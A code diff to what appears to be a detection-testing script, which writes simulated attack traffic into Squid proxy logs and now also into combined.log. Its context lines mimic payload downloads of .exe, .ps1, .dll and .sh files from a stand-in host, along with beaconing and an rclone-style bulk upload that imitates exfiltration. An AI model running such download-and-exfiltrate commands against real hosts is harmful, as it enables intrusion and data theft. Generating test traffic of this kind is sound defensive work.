@@ -43,7 +43,7 @@ through 10.10.20.22 'Microsoft BITS/7.8' http://198.51.100.66/update.exe
 through 10.10.20.22 'Mozilla/5.0 (Windows NT; Windows NT 10.0; vi-VN) WindowsPowerShell/5.1.19041.4780' http://198.51.100.66/x.ps1
 through 10.10.20.22 'CertUtil URL Agent' http://198.51.100.66/x.dll
 through 10.10.20.22 'curl/8.4.0' http://198.51.100.66:80/x.sh
-cut_end proxy-bare-address squid/access.log
+cut_end proxy-bare-address squid/access.log squid/combined.log
 
 cut_begin proxy-beacon
 round=0
@@ -52,7 +52,7 @@ while [ $round -lt 25 ]; do
     sleep 1
     round=$((round + 1))
 done
-cut_end proxy-beacon squid/access.log
+cut_end proxy-beacon squid/access.log squid/combined.log
 
 cut_begin proxy-upload
 head -c 3000000 /dev/urandom > /tmp/du-lieu.7z
@@ -61,7 +61,7 @@ while [ $round -lt 22 ]; do
     through 10.10.20.24 'rclone/v1.66.0' http://198.51.100.66/kho/du-lieu.$round -T /tmp/du-lieu.7z
     round=$((round + 1))
 done
-cut_end proxy-upload squid/access.log
+cut_end proxy-upload squid/access.log squid/combined.log
 
 cut_begin dns-tunnel
 round=0
